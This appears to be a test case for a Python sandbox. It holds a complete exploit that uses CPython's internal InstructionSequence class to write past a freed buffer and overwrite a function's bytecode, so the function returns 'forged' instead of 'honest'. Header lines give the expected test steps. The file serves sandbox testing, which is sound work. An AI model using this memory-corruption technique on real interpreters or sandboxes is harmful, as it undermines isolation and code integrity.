# attack: bytecode is overwritten in memory: a function that returns 'honest' runs forged instructions
# fence: this run only fools itself; before the next one the code comes back with the rest of memory (SEMANTICS 6)
# screened: S105
# step: deploy attack ["look"] => success 'honest'
# alike: 2 4
# step: call attack ["look"] => success 'honest'
# step: send attack ["forge"] => success 'forged'
# step: call attack ["look"] => success 'honest'
def victim(flag=False):
    if flag:
        return "forged"
    return "honest"


def forge():
    code = victim.__code__
    # The last instruction is RETURN_CONST 'honest'; RETURN_CONST 'forged' becomes the first.
    wanted = code.co_code[-2] + 256 * code.co_consts.index("forged")
    sequence = next(c for c in object.__subclasses__() if c.__name__ == "InstructionSequence")()
    block = bytes(20)
    at = id(block)
    block = None
    sequence.use_label(0)
    for _ in range(wanted):
        sequence.addop(1, 0, 0, 0, 0, 0)
    place = id(code) + (code.__sizeof__() - len(code.co_code) & ~3)
    offset = (place - at) >> 2
    sequence.use_label(offset - 2**30 if offset >= 0 else offset)


if args == ["forge"]:
    forge()
finish(victim())
